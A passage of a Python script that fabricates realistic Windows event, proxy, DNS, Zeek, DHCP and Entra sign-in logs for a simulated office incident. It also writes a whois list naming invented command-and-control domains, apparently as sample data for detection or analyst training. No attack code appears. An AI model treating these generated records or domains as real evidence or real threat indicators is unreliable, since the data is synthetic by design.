        "@timestamp": f"{millis(t if security else t + 3000, 'T')}Z",
        "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "8.15.1"},
        "event": {"action": TASKS.get(event_id, "None"), "created": f"{millis(t + 1_700_000, 'T')}Z", "code": str(event_id),
                  "kind": "event", "provider": provider, **({"outcome": "success"} if security else {})},
        "host": {"name": host.fqdn.lower()}, "log": {"level": "information"}, "ecs": {"version": "8.0.0"},
        "agent": {"type": "winlogbeat", "version": "8.15.1", "name": host.name},
        "winlog": {"channel": channel, "provider_name": provider, "provider_guid": f"{{{provider_guid(channel, provider).lower()}}}",
                   "event_id": str(event_id), "record_id": record, "version": VERSIONS.get(event_id, 0),
                   "computer_name": host.fqdn, "task": TASKS.get(event_id, "None"), "opcode": "Info", "api": "wineventlog",
                   **({"keywords": ["Audit Success"]} if security else
                      {"user": {"identifier": "S-1-5-18", "domain": "NT AUTHORITY", "name": "SYSTEM", "type": "User"}}),
                   "process": {"pid": 3428, "thread": {"id": 4612}},
                   "event_data": {k: str(v) for k, v in data.items()}}, **location}


def nxlog(row):
    """The flat shape: EventTime is the host's local time without a zone, @timestamp the collector's clock."""
    t, host, channel, event_id, data, provider, record = row
    local = stamp(t + TOKYO)
    event = {"EventTime": local, "Hostname": host.fqdn, "Keywords": -9223372036854775808, "EventType": "INFO",
             "SeverityValue": 2, "Severity": "INFO", "EventID": event_id, "SourceName": provider,
             "ProviderGuid": f"{{{provider_guid(channel, provider)}}}", "Version": VERSIONS.get(event_id, 0),
             "Task": TASK_IDS.get(event_id, event_id), "OpcodeValue": 0, "RecordNumber": record,
             "ExecutionProcessID": 3516, "ThreadID": 4420, "Channel": channel,
             "Message": TASKS[event_id].split(" (rule")[0] + "."}
    if channel == "Security":
        bad = failed(event_id, data)
        event |= {"Keywords": -9218868437227405312 if bad else -9214364837600034816,
                  "EventType": "AUDIT_FAILURE" if bad else "AUDIT_SUCCESS", "ExecutionProcessID": 748,
                  "Category": TASKS.get(event_id, "-")}
    elif "EventType" in data:
        event["EventTypeOrignal"] = "INFO"  # the collector's own spelling
    event |= {k.replace(" ", ""): str(v) for k, v in data.items()}
    return event | {"EventReceivedTime": stamp(t + TOKYO + 2 * SEC), "SourceModuleName": "eventlog",
                    "SourceModuleType": "im_msvistalog", "@timestamp": f"{millis(t + 2_400_000, 'T')}Z", "@version": "1"}


def system_fields(row):
    t, host, channel, event_id, data, provider, record = row
    keywords = {"Security": "0x8010000000000000" if failed(event_id, data) else "0x8020000000000000",
                "System": "0x8080000000000000"}.get(channel, "0x8000000000000000" if channel != POWERSHELL else "0x0")
    return {"task": TASK_IDS.get(event_id, 0), "keywords": keywords, "version": VERSIONS.get(event_id, 0),
            "level": 0 if channel == "Security" else (5 if event_id == 4104 else 4),
            "time": f"{stamp(t, '%Y-%m-%dT%H:%M:%S')}.{t % SEC:06d}", "pid": 748 if channel == "Security" else 2896}


def evtx_dump(row):
    t, host, channel, event_id, data, provider, record = row
    s = system_fields(row)
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {"Provider": {"#attributes": {"Name": provider, "Guid": provider_guid(channel, provider)}}, "EventID": event_id,
                   "Version": s["version"], "Level": s["level"], "Task": s["task"], "Opcode": 0, "Keywords": s["keywords"],
                   "TimeCreated": {"#attributes": {"SystemTime": s["time"] + "Z"}}, "EventRecordID": record,
                   "Correlation": None, "Execution": {"#attributes": {"ProcessID": s["pid"], "ThreadID": 1044}},
                   "Channel": channel, "Computer": host.fqdn, "Security": None},
        "EventData": {k: int(v) if k in ("LogonType", "KeyLength") and v.isdigit() else v
                      for k, v in data.items()}}}


def wevtutil(row):
    """One line an event, single quotes, no root element: as `wevtutil qe /f:xml` prints it."""
    t, host, channel, event_id, data, provider, record = row
    s = system_fields(row)
    qualifiers = " Qualifiers='16384'" if channel == "System" else ""
    values = "".join(f"<Data Name='{escape(k)}'>{escape(str(v))}</Data>" for k, v in data.items())
    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}' "
            f"Guid='{{{provider_guid(channel, provider)}}}'/><EventID{qualifiers}>{event_id}</EventID><Version>{s['version']}</Version>"
            f"<Level>{s['level']}</Level><Task>{s['task']}</Task><Opcode>0</Opcode><Keywords>{s['keywords']}</Keywords>"
            f"<TimeCreated SystemTime='{s['time']}0Z'/><EventRecordID>{record}</EventRecordID><Correlation/>"
            f"<Execution ProcessID='{s['pid']}' ThreadID='1044'/><Channel>{channel}</Channel>"
            f"<Computer>{host.fqdn}</Computer><Security/></System><EventData>{values}</EventData></Event>")


def write_windows(office, out):
    files = {}
    for row in numbered(office):
        files.setdefault(windows_file(row), []).append(row)
    for name in sorted(files):
        rows = files[name]
        shape = {"winlogbeat": winlogbeat, "siem-export": winlogbeat, "nxlog": nxlog, "evtx_dump": evtx_dump}.get(name.split("/")[0])
        if shape is None:
            out.lines(name, map(wevtutil, rows))
        elif name.endswith((".array.json", ".array.json.gz")):
            out.put(name, "[\n" + ",\n".join(compact(shape(row)) for row in rows) + "\n]\n")
        else:
            out.lines(name, (compact(shape(row)) for row in rows))


def windows_file(row):
    """Which collector delivers this event."""
    t, host, channel = row[:3]
    if LOCATION in row[4]:
        return "siem-export/remote-logons-4624.ndjson"
    if channel == DEFENDER:
        return "wevtutil/defender-operational.xml"
    if host.name in NXLOG_HOSTS:
        return "nxlog/windows-flat.ndjson.gz"
    if channel == "Security" and host.name == "DC01":
        return "evtx_dump/DC01-Security.ndjson.gz"
    if channel == "Security" and host.name == "DC02":
        return "evtx_dump/DC02-Security.array.json.gz"
    if channel == POWERSHELL:
        return "evtx_dump/PowerShell-Operational.array.json"
    if channel == "Security" and host.name == "PC-YAMADA":
        return "wevtutil/PC-YAMADA-Security.xml"
    if channel == "System":
        return "wevtutil/System.xml"
    if channel == "Security":
        return "winlogbeat/security.ndjson.gz"
    return f"winlogbeat/sysmon-{stamp(t + TOKYO, '%Y-%m-%d')}.ndjson.gz"


def write_network(office, out):
    web = sorted(office.web, key=lambda row: row[:2])
    out.lines("squid/access.log.gz", (
        f"{t // SEC}.{t // 1000 % 1000:03d} {elapsed:6d} {client} {'TCP_TUNNEL' if method == 'CONNECT' else 'TCP_MISS'}/200 "
        f"{size} {method} {target} - HIER_DIRECT/{ip} {mime}"
        for t, _, elapsed, client, method, target, size, ip, mime, _ in web))
    dns = sorted(office.dns, key=lambda row: row[:2])
    rng = random.Random("bind")
    rows = []
    for t, _, client, name, kind, *_ in dns:
        rows.append(f"{stamp(t, '%d-%b-%Y %H:%M:%S')}.{t // 1000 % 1000:03d} queries: info: client "
                    f"@0x7f41c80{rng.randrange(9)}2b68 {client}#{rng.randrange(49152, 65000)} ({name}): query: {name} IN {kind} "
                    f"+E(0)K ({NAME_SERVER})")
    out.lines("bind/query.log.gz", rows)
    write_microsoft_dns(office, out)
    write_zeek(web, dns, out)
    write_dhcp(office, out)


MSDNS_HEAD = """DNS Server log file creation at 9/18/2025 12:00:01 AM
Log file wrap at 9/18/2025 12:00:01 AM

Message logging key (for packets - other items use a subset of these fields):
\tField #  Information         Values
\t-------  -----------         ------
\t   1     Date
\t   2     Time
\t   3     Thread ID
\t   4     Context
\t   5     Internal packet identifier
\t   6     UDP/TCP indicator
\t   7     Send/Receive indicator
\t   8     Remote IP
\t   9     Xid (hex)
\t  10     Query/Response      R = Response, blank = Query
\t  11     Opcode              Q = Standard Query, N = Notify, U = Update, ? = Unknown
\t  12     [ Flags (hex)
\t  13     Flags (char codes)  A = Authoritative Answer, T = Truncated Response, D = Recursion Desired, R = Recursion Available
\t  14     ResponseCode ]
\t  15     Question Type
\t  16     Question Name
"""


def write_microsoft_dns(office, out):
    """DC02's debug log: the server's local time, American order."""
    rng, rows = random.Random("msdns"), [MSDNS_HEAD]
    for t, _, client, name, kind, missing in sorted(office.msdns, key=lambda row: row[:2]):
        local = datetime(1970, 1, 1) + timedelta(microseconds=t + TOKYO)
        clock = f"{local.month}/{local.day}/{local.year} {(local.hour % 12) or 12}:{local:%M:%S} {'AM' if local.hour < 12 else 'PM'}"
        packet, xid = f"000001D2B5C{rng.randrange(1 << 20):05X}", f"{rng.randrange(1 << 16):04x}"
        labels = "".join(f"({len(label)}){label}" for label in name.split(".")) + "(0)"
        for way, response, flags in (("Rcv", " ", "0001   D   NOERROR"),
                                     ("Snd", "R", "8381   DR NXDOMAIN" if missing else "8081   DR  NOERROR")):
            rows.append(f"{clock} 0E4C PACKET  {packet} UDP {way} {client:<15} {xid} {response} Q [{flags}] {kind:<6} {labels}\n")
    out.lines("microsoft-dns/DC02-dns.log.gz", rows)


def zeek_file(out, name, path, fields, rows):
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{path}",
            "#open\t2025-09-20-19-30-00", "#fields\t" + "\t".join(f for f, _ in fields),
            "#types\t" + "\t".join(kind for _, kind in fields)]
    out.lines(name, head + ["\t".join(map(str, row)) for row in rows] + ["#close\t2025-09-20-23-30-00"])


def write_zeek(web, dns, out):
    """A sensor that was switched on for four hours of the incident day: DNS with answers and TTL, connections with bytes."""
    begin, end, rng = at("2025-09-20T10:30:00"), at("2025-09-20T14:30:00"), random.Random("zeek")
    common = [("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"), ("id.resp_h", "addr"),
              ("id.resp_p", "port"), ("proto", "enum")]

    def uid():
        return "C" + "".join(rng.choice("abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(16))

    rows = []
    for t, _, client, name, kind, ttl, ip, code in dns:
        if begin <= t < end:
            known = ip != "-" and kind == "A"
            rows.append((f"{t // SEC}.{t % SEC:06d}", uid(), client, rng.randrange(49152, 65000), NAME_SERVER, 53, "udp",
                         rng.randrange(65536), "0.001204", name, 1, "C_INTERNET", {"A": 1, "TXT": 16, "SRV": 33}[kind], kind, 0,
                         code, "F", "F", "T", "T", 0, ip if known else "-", f"{ttl}.000000" if known else "-", "F"))
    zeek_file(out, "zeek/dns.log", "dns", common + [
        ("trans_id", "count"), ("rtt", "interval"), ("query", "string"), ("qclass", "count"), ("qclass_name", "string"),
        ("qtype", "count"), ("qtype_name", "string"), ("rcode", "count"), ("rcode_name", "string"), ("AA", "bool"),
        ("TC", "bool"), ("RD", "bool"), ("RA", "bool"), ("Z", "count"), ("answers", "vector[string]"),
        ("TTLs", "vector[interval]"), ("rejected", "bool")], rows)
    rows = []
    for t, _, elapsed, client, method, target, size, ip, mime, sent in web:
        start = t - elapsed * 1000
        if begin <= start < end:
            tls = method == "CONNECT"
            rows.append((start, f"{start // SEC}.{start % SEC:06d}", uid(), client, rng.randrange(49152, 65000), ip, 443 if tls else 80,
                         "tcp", "ssl" if tls else "http", f"{elapsed / 1000:.6f}", sent, size, "SF", "T", "F", 0, "ShADadFf", 12,
                         sent + 480, 14, size + 560, "-"))
    zeek_file(out, "zeek/conn.log", "conn", common + [
        ("service", "string"), ("duration", "interval"), ("orig_bytes", "count"), ("resp_bytes", "count"),
        ("conn_state", "string"), ("local_orig", "bool"), ("local_resp", "bool"), ("missed_bytes", "count"),
        ("history", "string"), ("orig_pkts", "count"), ("orig_ip_bytes", "count"), ("resp_pkts", "count"),
        ("resp_ip_bytes", "count"), ("tunnel_parents", "set[string]")], [row[1:] for row in sorted(rows)])


DHCP_HEAD = """\t\tMicrosoft DHCP Service Activity Log


Event ID  Meaning
00\tThe log was started.
01\tThe log was stopped.
10\tA new IP address was leased to a client.
11\tA lease was renewed by a client.
12\tA lease was released by a client.
24\tIP address cleanup operation has began.
25\tIP address cleanup statistics.
30\tDNS update request to the named DNS server.
32\tDNS update successful.

QResult: 0: NoQuarantine, 1:Quarantine, 2:Drop Packet, 3:Probation,6:No Quarantine Information ProbationTime:Year-Month-Day Hour:Minute:Second:MilliSecond.

ID,Date,Time,Description,IP Address,Host Name,MAC Address,User Name, TransactionID, QResult,Probationtime, CorrelationID,Dhcid,VendorClass(Hex),VendorClass(ASCII),UserClass(Hex),UserClass(ASCII),RelayAgentInformation,DnsRegError.
"""


def write_dhcp(office, out):
    """One file a weekday, local time, as the Windows DHCP server keeps them."""
    days = {}
    for t, n, code, ip, fqdn, mac in sorted(office.leases):
        local = t + TOKYO
        what = {10: "Assign", 11: "Renew", 12: "Release"}[code]
        rows = days.setdefault(stamp(local, "%a"), [])
        clock = stamp(local, "%m/%d/%y,%H:%M:%S")
        rows.append(f"{code},{clock},{what},{ip},{fqdn},{mac},,{int(digest(mac + str(t), 8), 16)},0,,,,0x4D53465420352E30,MSFT 5.0,,,,0")
        if code == 10:
            rows.append(f"30,{clock},DNS Update Request,{ip},{fqdn},,,0,6,,,,,,,,,0")
            rows.append(f"32,{clock},DNS Update Successful,{ip},{fqdn},,,0,6,,,,,,,,,0")
    for day in sorted(days):
        out.put(f"dhcp/DhcpSrvLog-{day}.log", "\ufeff" + DHCP_HEAD.replace("\n", "\r\n") + "".join(r + "\r\n" for r in days[day]))


def write_identity(office, out):
    tenant, rows = "4f6f7d0c-2a1e-4c8b-9d55-0a1b2c3d4e5f", []
    for t, n, user, ip, country, result, app in sorted(office.cloud):
        city, state, latitude, longitude = CITIES[country]
        request = f"{digest(user + str(t), 8)}-7b1d-4c0e-8a55-{digest(str(t) + user, 12)}"
        status = {"errorCode": int(result)} | ({} if result == "0" else {"failureReason": "Invalid username or password."})
        rows.append(compact({
            "time": f"{millis(t, 'T')}0000Z", "resourceId": f"/tenants/{tenant}/providers/Microsoft.aadiam",
            "operationName": "Sign-in activity", "operationVersion": "1.0", "category": "SignInLogs", "tenantId": tenant,
            "resultType": result, "resultSignature": "None", "durationMs": 0, "callerIpAddress": ip, "correlationId": request,
            "identity": user, "Level": 4, "location": country, "properties": {
                "id": request, "createdDateTime": f"{millis(t, 'T')}0000+00:00", "userDisplayName": user,
                "userPrincipalName": f"{user}@{DOMAIN}", "userId": f"00000000-0000-4000-8000-{digest(user, 12)}",
                "appDisplayName": app, "ipAddress": ip, "status": status, "clientAppUsed": "Browser",
                "userAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/140.0.0.0 Safari/537.36",
                "deviceDetail": {"deviceId": "", "operatingSystem": "Windows 10", "browser": "Chrome 140.0.0"},
                "location": {"city": city, "state": state, "countryOrRegion": country,
                             "geoCoordinates": {"latitude": latitude, "longitude": longitude}},
                "conditionalAccessStatus": "notApplied", "isInteractive": True, "authenticationRequirement": "singleFactorAuthentication",
                "riskLevelDuringSignIn": "none", "autonomousSystemNumber": 64500 if country == "JP" else 64511}}))
    out.lines("entra/SignInLogs.ndjson.gz", rows)


def write_lists(folder):
    """What an analyst would pass beside the logs: registration dates and how much each host matters."""
    out = Writer(folder)
    out.put("whois.csv", "e2ld,created\ncommand-and-control.top,2025-09-15\nkx-statsync.top,2025-09-03\nanydesk.com,2013-05-07\n"
            "cloudfront.net,2008-04-25\noffice365.com,2009-06-03\nwindowsupdate.com,2002-08-26\ngoogleapis.com,2005-01-25\n")
    tiers = {"DC01": "tier-0", "DC02": "tier-0", "FS01": "server", "APP01": "server", "MAIL01": "server", "BKP01": "server"}
    out.put("assets.csv", "host,criticality\n" + "".join(f"{host},{tier}\n" for host, tier in tiers.items()) +
            "".join(f"{pc(user)},normal\n" for user, _ in PEOPLE))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    default = Path(__file__).resolve().parent.parent / "sample_data" / "office"
    parser.add_argument("--out", type=Path, default=default, metavar="DIR", help="where the logs go; the lists go beside it, to office-lists")
    folder = parser.parse_args().out
    office = Office()
    history(office)
    three_days(office)
    false_friends(office)
    story_document(office)
    story_ransomware(office)
    story_insider(office)
    out = Writer(folder)
    write_windows(office, out)
    write_network(office, out)
    write_identity(office, out)
    write_lists(folder.parent / "office-lists")
    records = sum(map(len, (office.events, office.dns, office.msdns, office.web, office.leases, office.cloud)))
    size = sum(path.stat().st_size for path in out.written)
    for path in sorted(path for path in folder.rglob("*") if path.is_file() and path not in out.written):
        print(f"{path}: not written by this run; remove it if it is left over from an older one")
    print(f"{folder}: {records} records, {size} bytes")


if __name__ == "__main__":
    main()
